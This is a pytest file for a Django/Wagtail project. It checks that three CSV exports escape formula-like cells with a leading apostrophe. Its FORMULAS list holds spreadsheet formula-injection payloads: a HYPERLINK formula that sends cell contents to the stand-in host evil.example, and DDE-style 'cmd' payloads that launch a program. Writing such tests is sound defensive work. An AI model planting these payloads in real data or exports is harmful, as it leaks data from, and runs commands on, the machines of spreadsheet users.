"""No CSV the package writes carries a cell a spreadsheet would run as a formula (issue 13,
point 4): the admin export of expressions of interest, the action items report and the
open-data CSV of a plan all write such cells with a leading apostrophe."""

import csv
import io

import pytest
from django.urls import reverse

from avp_wagtail.models import InterestSubmission
from avp_wagtail.open_data.csv_format import FORMULA_STARTS
from tests.builders import make_call, make_item, make_plan, make_programme

pytestmark = pytest.mark.django_db

# What a resident can type into the interest form, or an imported/borrowed title holds.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response):
    body = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _assert_no_formula_cell(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.fixture
def programme(home):
    return make_programme(home)


def test_interest_export_escapes_formula_cells(admin_client, programme):
    call = make_call(programme)
    for n, formula in enumerate(FORMULAS):
        InterestSubmission.objects.create(
            call=call,
            name=formula,
            organisation=formula,
            email=f"resident{n}@example.ee",
            phone=formula[:64],
            message=formula,
            themes=[formula],
            consent=True,
        )
    response = admin_client.get("/admin/avp/interest-submissions/?export=csv")
    assert response.status_code == 200
    rows = _rows(response)
    assert len(rows) == 1 + len(FORMULAS)
    _assert_no_formula_cell(rows)
    cells = {cell for row in rows[1:] for cell in row}
    for formula in FORMULAS:
        # The text is all there, to be read as text: nothing lost, nothing run.
        assert "'" + formula in cells


def test_action_items_report_escapes_formula_titles(admin_client, programme):
    plan = make_plan(programme, title="=Plan()")
    for n, formula in enumerate(FORMULAS):
        make_item(plan, n, title=formula)
    response = admin_client.get(reverse("avp_action_items_report") + "?export=csv")
    assert response.status_code == 200
    rows = _rows(response)
    _assert_no_formula_cell(rows)
    titles = {row[0] for row in rows[1:]}
    assert titles == {"'" + formula for formula in FORMULAS}
    assert {row[1] for row in rows[1:]} == {"'=Plan()"}


def test_open_data_csv_escapes_formula_cells(client, programme):
    plan = make_plan(programme)
    for n, formula in enumerate(FORMULAS):
        make_item(plan, n, title=formula, summary=formula)
    response = client.get(plan.url + "open-data/csv/")
    assert response.status_code == 200
    rows = _rows(response)
    _assert_no_formula_cell(rows)
    assert {row[1] for row in rows[1:]} == {"'" + formula for formula in FORMULAS}


def test_numbers_stay_numbers(admin_client, programme):
    """Only text is escaped: a progress or a date is not turned into text."""
    plan = make_plan(programme)
    make_item(plan, 1, title="Paviljonid", progress=40)
    rows = _rows(admin_client.get(reverse("avp_action_items_report") + "?export=csv"))
    assert rows[1][0] == "Paviljonid"
    assert rows[1][5] == "40"
